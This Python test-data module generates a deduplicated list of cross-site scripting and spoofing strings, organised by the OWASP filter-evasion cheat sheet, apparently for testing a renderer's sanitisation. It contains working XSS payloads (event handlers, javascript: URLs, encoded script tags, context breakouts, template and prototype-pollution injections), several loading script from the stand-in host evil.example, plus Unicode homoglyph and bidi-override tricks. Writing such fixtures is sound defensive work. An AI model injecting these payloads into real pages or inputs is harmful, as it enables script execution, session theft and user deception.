"""Texts that try to become something else where they are shown: script, markup, a link, another text.

Composed here by the categories of the OWASP cheat sheet on evading filters of cross-site scripting. Each that runs
shows it by calling `hit(…)`, or by asking for an address under `/hit/`.
"""

from collections.abc import Iterator

_CALL = "hit(1)"
_TAGS_WITH_EVENTS = {
    "img": ("src=x onerror", "src onerror", "src=/hit/a onload", "srcset=x onerror"),
    "svg": ("onload", "/onload"),
    "body": ("onload", "onpageshow", "onhashchange"),
    "iframe": ("onload",),
    "video": ("src=x onerror", "autoplay onloadstart"),
    "audio": ("src=x onerror",),
    "input": ("autofocus onfocus",),
    "select": ("autofocus onfocus",),
    "textarea": ("autofocus onfocus",),
    "details": ("open ontoggle",),
    "marquee": ("onstart",),
    "object": ("data=x onerror",),
    "embed": ("src=x onload",),
    "style": ("onload",),
    "a": ("href=# onclick", "onmouseover", "style=animation-name:x onanimationstart"),
    "math": ("onclick",),
    "xss": ("autofocus tabindex=1 onfocus", "contenteditable oncopy"),
    "button": ("autofocus onfocus", "popovertarget=x onbeforetoggle"),
    "dialog": ("open onclose",),
    "form": ("oninput",),
}
_ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"java\nscript:{_CALL}",
    f"&#106;avascript:{_CALL}",
    f"&#x6A;avascript&colon;{_CALL}",
    f"\x01javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    f"vbscript:{_CALL}",
    f"blob:{_CALL}",
    "//evil.example/hit/b.js",
)
_ADDRESSED = ('<a href="{}">x</a>', '<iframe src="{}">', '<form action="{}"><button>x</button></form>')
_SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<ScRiPt >{_CALL}</sCrIpT >",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    "<script src=/hit/c.js></script>",
    "<script src=//evil.example/hit/d.js></script>",
    f"<script/x>{_CALL}</script/x>",
    f"<script\n>{_CALL}</script\n>",
    f"<script\x00>{_CALL}</script>",
    f"<<script>{_CALL}//<</script>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><script xlink:href=data:,{_CALL} />",
    f"<math><mtext><script>{_CALL}</script></mtext></math>",
    f"<noscript><p title='</noscript><script>{_CALL}</script>'>",
    f"<template><script>{_CALL}</script></template>",
    f"<script type=module>{_CALL}</script>",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"＜script＞{_CALL}＜/script＞",
)
_OUT_OF_CONTEXT = (
    f"</p><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f'" autofocus onfocus="{_CALL}',
    f"' onmouseover='{_CALL}",
    f"`-{_CALL}-`",
    f'";{_CALL};//',
    f"';{_CALL};//",
    f"</script><script>{_CALL}</script>",
    f'<!--<img src="--><img src=x onerror={_CALL}>">',
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{_CALL}</script></x>",
)
_MARKUP = (
    "<b>bold</b>",
    "<h1>The house closes</h1>",
    "<base href=//evil.example/hit/>",
    "<meta http-equiv=refresh content='0;url=/hit/e'>",
    "<link rel=stylesheet href=/hit/f.css>",
    "<style>*{background:url(/hit/g)}</style>",
    "<style>@import '/hit/h.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<div style=background:url(/hit/i)>",
    "<table background=/hit/j>",
    "<img src=/hit/k>",
    "<object data=/hit/l></object>",
    "<svg><use href=/hit/m.svg#x></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:hit(1) /><a id=x><text>x</text></a></svg>",
    "<form id=x></form><input form=x name=action>",
    "<a id=hit name=hit href=/hit/n>x</a>",
    "<portal src=/hit/o></portal>",
    "<iframe srcdoc='&lt;script&gt;parent.hit(1)&lt;/script&gt;'></iframe>",
)
_OF_TEMPLATES = (
    "{{constructor.constructor('hit(1)')()}}",
    "{{name}} $t(app:title) $t(tables.with)",
    "${hit(1)}",
    "#{hit(1)}",
    "<%= hit(1) %>",
    "{%raw%}hit(1){%endraw%}",
    "[x](javascript:hit(1))",
    "![x](/hit/p)",
    "https://evil.example/hit/q",
    "www.evil.example",
    '{"t":"bye","error":"session_ended"}',
    '{"__proto__":{"hit":1},"constructor":{"prototype":{"hit":1}}}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit(1)>"}}',
    "__proto__",
)
_OTHER_TEXTS = (
    "\u202egnp.exe\u202c",
    "safe\u2066\u202etxet \u2069text",
    "a\u200bd\u200cm\u200di\u2060n\ufeff",
    "Аdministrator",
    "ΡayΡal",
    "ｆｕｌｌｗｉｄｔｈ",
    "مرحبا <b>بك</b> 123",
    "שלום (hit) abc",
    "e\u0301" + "\u0301" * 30,
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "one\u2028two\u2029three",
    "tab\tand\x0bline\x0cfeed\r\nend",
    "nul\x00and\x1bescape\x7f\x9b",
    "\u200e\u200fmarks\u061c",
    "soft\u00adhyphen",
)


def hostile_texts() -> list[str]:
    """All of them, in one order, none twice."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for tag, events in _TAGS_WITH_EVENTS.items():
        for event in events:
            yield f"<{tag} {event}={_CALL}>"
    for address in _ADDRESSES:
        for around in _ADDRESSED:
            yield around.format(address)
    for texts in (_SCRIPTS, _OUT_OF_CONTEXT, _MARKUP, _OF_TEMPLATES, _OTHER_TEXTS):
        yield from texts
